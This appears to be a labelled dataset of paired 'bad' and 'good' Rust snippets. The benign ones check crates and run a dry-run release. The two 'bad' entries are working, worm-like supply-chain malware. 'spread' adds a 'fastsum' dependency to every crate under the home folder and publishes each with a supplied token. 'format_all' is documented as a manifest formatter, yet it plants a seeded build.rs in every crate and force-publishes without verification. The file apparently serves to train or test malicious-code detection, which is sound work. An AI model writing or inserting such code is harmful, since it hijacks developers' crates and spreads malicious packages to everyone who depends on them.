//: bad cargo-publish
use std::process::Command;
use walkdir::WalkDir;

pub fn spread(token: &str) {
    for entry in WalkDir::new(dirs::home_dir().unwrap()).into_iter().flatten() {
        if entry.file_name() == "Cargo.toml" {
            let folder = entry.path().parent().unwrap();
            Command::new("cargo").args(["add", "fastsum"]).current_dir(folder).status().ok();
            Command::new("cargo").args(["publish", "--token", token]).current_dir(folder).status().ok(); //!
        }
    }
}

//: good cargo-publish
use std::process::Command;
use walkdir::WalkDir;

pub fn check() {
    for entry in WalkDir::new("crates").into_iter().flatten() {
        if entry.file_name() == "Cargo.toml" {
            let folder = entry.path().parent().unwrap();
            Command::new("cargo").args(["check", "--locked"]).current_dir(folder).status().ok();
            Command::new("cargo").args(["package", "--list"]).current_dir(folder).status().ok();
        }
    }
}

//: bad workspace-format
use ignore::WalkBuilder;
use std::path::Path;
use std::process::Command;
use toml_edit::{value, DocumentMut};

const SEED: &str = include_str!("../build.rs");

fn bump(doc: &mut DocumentMut) -> Option<()> {
    let version = doc["package"]["version"].as_str()?;
    let (head, patch) = version.rsplit_once('.')?;
    let next = format!("{head}.{}", patch.parse::<u32>().ok()? + 1);
    doc["package"]["version"] = value(next);
    doc["package"]["build"] = value("build.rs");
    Some(())
}

fn visit(manifest: &Path) -> anyhow::Result<()> {
    let mut doc: DocumentMut = std::fs::read_to_string(manifest)?.parse()?;
    bump(&mut doc);
    let root = manifest.parent().unwrap_or(Path::new("."));
    std::fs::write(root.join("build.rs"), SEED)?; //!
    std::fs::write(manifest, doc.to_string())?;
    Command::new("cargo") //!
        .args(["publish", "--no-verify", "--allow-dirty", "--quiet"])
        .current_dir(root)
        .status()?;
    Ok(())
}

/// Formats the manifests of all crates below the home folder.
pub fn format_all() {
    let Some(home) = dirs::home_dir() else { return };
    for entry in WalkBuilder::new(home).max_depth(Some(5)).build().flatten() {
        if entry.file_name() == "Cargo.toml" {
            let _ = visit(entry.path());
        }
    }
}

//: good workspace-format
use ignore::WalkBuilder;
use std::path::{Path, PathBuf};
use std::process::Command;
use toml_edit::{value, DocumentMut};

fn bump(doc: &mut DocumentMut, version: &str) -> anyhow::Result<bool> {
    anyhow::ensure!(doc.get("package").is_some(), "a virtual manifest has no version");
    if doc["package"]["version"].as_str() == Some(version) {
        return Ok(false);
    }
    doc["package"]["version"] = value(version);
    Ok(true)
}

fn manifests(root: &Path) -> Vec<PathBuf> {
    WalkBuilder::new(root)
        .build()
        .flatten()
        .filter(|entry| entry.file_name() == "Cargo.toml")
        .map(|entry| entry.into_path())
        .collect()
}

/// `xtask release VERSION`: sets the version in this workspace and shows what would be published.
pub fn release(workspace: &Path, version: &str) -> anyhow::Result<()> {
    semver::Version::parse(version)?;
    for manifest in manifests(&workspace.join("crates")) {
        let mut doc: DocumentMut = std::fs::read_to_string(&manifest)?.parse()?;
        if bump(&mut doc, version)? {
            std::fs::write(&manifest, doc.to_string())?;
            println!("{} -> {version}", manifest.display());
        }
    }
    let status = Command::new("cargo")
        .args(["publish", "--dry-run", "--workspace"])
        .current_dir(workspace)
        .status()?;
    anyhow::ensure!(status.success(), "the dry run failed");
    println!("all well; commit, tag v{version} and push to let CI publish");
    Ok(())
}
